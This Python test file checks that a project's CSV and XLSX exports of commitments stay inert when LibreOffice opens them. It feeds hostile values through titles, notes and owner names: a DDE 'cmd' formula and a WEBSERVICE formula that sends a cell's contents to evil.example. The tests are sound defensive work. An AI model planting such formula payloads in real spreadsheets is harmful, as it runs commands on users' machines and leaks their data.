"""What a user sees who opens our files in LibreOffice: text stays text, numbers stay numbers, nothing runs."""

import csv
import io

import pytest

from commitments.exports.csv import strip_defusing
from commitments.exports.xlsx import CUT_MARK, MAX_CELL_LENGTH
from tests import factories
from tests.helpers.exports import LEFT_ALONE, RUN, body
from tests.helpers.ledger_acts import before_texts_had_a_length

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("the_day_is_fixed")]
HOSTILE = RUN | LEFT_ALONE | {
    "lone plus": "+",
    "sum": "-2+3",
    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "external link": "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "quote first": '"=1+1"',
    "space first": " =1+1",
    "escape of a workbook": "_x0041_ and _x000D_",
    "control characters": "a\x01b\x0bc",
    "date": "1-2",
    "exponent": "1E5",
    "boolean": "TRUE",
}  # fmt: skip

# A CSV has no types: a text that is a number, whole, is one to a spreadsheet. Our words are none; XLSX keeps them.
NUMBERS = ("digits", "exponent")

LONG = ("=" + "long, " * 5462)[:32_768]


def hostile_world():
    """A commitment for each hostile text, which stands in its title, its unit, its owner's name and its note.

    And one whose note is longer than a cell may be, and whose deadline was brought forward.
    """
    for number, text in enumerate(HOSTILE.values()):
        owner = factories.OrganisationFactory(name=text)
        commitment = factories.published(reference=f"HC-{number:02}", title=text, unit=text, owners=[owner], quote=text)
        factories.record("report", commitment, note=text)
    commitment = factories.published(reference="ZZ-01", deadline="2020-01-06")
    with before_texts_had_a_length():
        factories.record("report", commitment, note=LONG, deadline="2020-01-01", deadline_reason="Good weather.")


def by_title(cells):
    """By title of the column, what stands under it."""
    header, *rows = cells
    return [dict(zip(header, row, strict=True)) for row in rows]


def plain(text):
    """A text as any spreadsheet's CSV gives it back: its ends of line in one way."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_libreoffice_runs_a_cell_that_nobody_defused(as_spreadsheet):
    """Else the next tests would prove nothing."""
    assert as_spreadsheet(b"a,b\r\n=1+1,'=1+1\r\n", "control.csv")[1] == ["2", "'=1+1"]


SHOWN: dict[str, list[dict[str, str]]] = {}  # by the file's ending: LibreOffice takes seconds to open one


@pytest.fixture(params=["csv", "xlsx"])
def shown(request, client, as_spreadsheet):
    """The ending of a file, and the rows that LibreOffice shows of it."""
    ending = request.param
    if ending not in SHOWN:
        hostile_world()
        SHOWN[ending] = by_title(as_spreadsheet(body(client, f"/commitments.{ending}"), f"hostile.{ending}"))
    return ending, SHOWN[ending]


def test_every_hostile_cell_comes_back_from_libreoffice_as_text(shown):
    ending, rows = shown
    assert len(rows) == len(HOSTILE) + 1
    for (name, text), row in zip(HOSTILE.items(), rows, strict=False):
        if ending == "csv" and name in NUMBERS:
            continue
        for column in ("title", "unit", "owners", "quote", "note"):
            assert plain(strip_defusing(row[column])) == plain(text), (text, column)


def test_a_text_longer_than_a_cell_may_be_comes_back_as_text(shown):
    ending, rows = shown
    assert strip_defusing(rows[-1]["note"]) == (
        LONG if ending == "csv" else LONG[: MAX_CELL_LENGTH - len(CUT_MARK)] + CUT_MARK
    )


def test_a_negative_number_stays_a_number(shown):
    _ending, rows = shown
    assert rows[-1]["slip_days"] == "-5"


def test_the_workbook_of_the_release_says_in_libreoffice_what_the_csv_says(release, client, as_spreadsheet):
    """In Chinese, with English where nothing is translated."""
    at = "/zh-hant/commitments"
    ours = csv.reader(io.StringIO(body(client, f"{at}.csv?labels=1").decode("utf-8-sig"), newline=""))
    sheet = as_spreadsheet(body(client, f"{at}.xlsx?labels=1"), "release.xlsx")
    assert sheet == [[strip_defusing(cell) for cell in row] for row in ours]
    assert len(sheet) == 58
